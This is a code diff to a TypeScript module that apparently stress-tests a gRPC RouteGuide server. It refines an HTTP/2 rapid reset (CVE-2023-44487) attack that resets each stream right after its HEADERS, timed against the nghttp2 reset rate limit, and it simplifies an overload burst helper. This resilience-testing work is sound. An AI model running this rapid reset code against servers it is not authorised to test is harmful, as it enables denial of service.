@@ -8,8 +8,7 @@ import net from 'node:net';
 import { performance } from 'node:perf_hooks';
 import * as grpc from '@grpc/grpc-js';
 import type { RouteGuideClient } from '../../src/generated/routeguide/RouteGuide';
-import { loadRouteGuideProto } from '../../src/grpc/proto';
-import { percentile } from './probe-client';
+import { newRouteGuideClient, percentile } from './probe-client';
 import { frame } from './raw-grpc';
 
 /** A running attack. */
@@ -498,7 +497,12 @@ export interface RapidResetOptions {
   readonly batch?: number;
   /** Longest the attack runs. Default 10 s. */
   readonly maxMs?: number;
-  readonly box?: Box;
+  /**
+   * Send the whole-world request message before the reset. Default false: HEADERS alone, so
+   * the server has not answered yet when the reset arrives, which is what its reset rate limit
+   * (nghttp2's, in Node) counts; with the request the handler answers at once and runs.
+   */
+  readonly withRequest?: boolean;
 }
 
 export interface RapidResetReport {
@@ -513,9 +517,9 @@ export interface RapidResetReport {
 }
 
 /**
- * HTTP/2 rapid reset (CVE-2023-44487): on one connection, opens ListFeatures streams and
- * cancels each at once with RST_STREAM, as fast as the socket takes them, until the server
- * cuts the connection off or the bounds are reached.
+ * HTTP/2 rapid reset (CVE-2023-44487): on one connection, opens ListFeatures streams in
+ * batches and cancels each with RST_STREAM right after its HEADERS, as fast as the socket takes
+ * them, until the server cuts the connection off or the bounds are reached.
  */
 export async function rapidReset(
   address: string,
@@ -525,7 +529,7 @@ export async function rapidReset(
   const batch = options.batch ?? 100;
   const maxMs = options.maxMs ?? 10_000;
   const { session, socket } = await openSession(address, {}, 10_000);
-  const body = listFeaturesRequest(options.box ?? WORLD);
+  const body = options.withRequest === true ? listFeaturesRequest(WORLD) : undefined;
   let streams = 0;
   let cutOffAt: number | undefined;
   let goawayCode: number | undefined;
@@ -549,19 +553,36 @@ export async function rapidReset(
       !session.closed &&
       !session.destroyed
     ) {
+      const batchOf: http2.ClientHttp2Stream[] = [];
       try {
         for (let i = 0; i < batch && streams < maxStreams; i++) {
           const stream = session.request(requestHeaders(LIST_FEATURES_PATH));
           stream.on('error', ignore);
-          stream.end(body);
-          stream.close(http2.constants.NGHTTP2_CANCEL);
+          if (body !== undefined) stream.end(body);
+          batchOf.push(stream);
           streams++;
         }
       } catch {
         // The session went away under us (ERR_HTTP2_INVALID_SESSION, GOAWAY received).
         cutOffAt ??= streams;
       }
+      // One turn later the HEADERS are on the wire (a stream reset before then is dropped by
+      // the client and never reaches the server); then every stream of the batch is reset.
       await new Promise((resolve) => setImmediate(resolve));
+      const closed = batchOf.map(
+        (stream) =>
+          new Promise<void>((resolve) => {
+            if (stream.closed) return resolve();
+            stream.once('close', () => resolve());
+            stream.close(http2.constants.NGHTTP2_CANCEL);
+          }),
+      );
+      let timer: NodeJS.Timeout | undefined;
+      await Promise.race([
+        Promise.all(closed),
+        new Promise((resolve) => (timer = setTimeout(resolve, 2000))),
+      ]);
+      clearTimeout(timer);
     }
   })();
   const report = (): RapidResetReport => ({
@@ -656,13 +677,8 @@ function burstBoxes(count: number, halfSideDegrees: number): Box[] {
  */
 export function overloadBurst(address: string, options: OverloadOptions): Attack<OverloadReport> {
   const deadlineMs = options.deadlineMs ?? 5000;
-  const { proto } = loadRouteGuideProto();
-  const clients: RouteGuideClient[] = Array.from(
-    { length: options.connections ?? 4 },
-    () =>
-      new proto.routeguide.RouteGuide(address, grpc.credentials.createInsecure(), {
-        'grpc.use_local_subchannel_pool': 1,
-      }),
+  const clients: RouteGuideClient[] = Array.from({ length: options.connections ?? 4 }, () =>
+    newRouteGuideClient(address),
   );
   const ok: number[] = [];
   const refused: number[] = [];
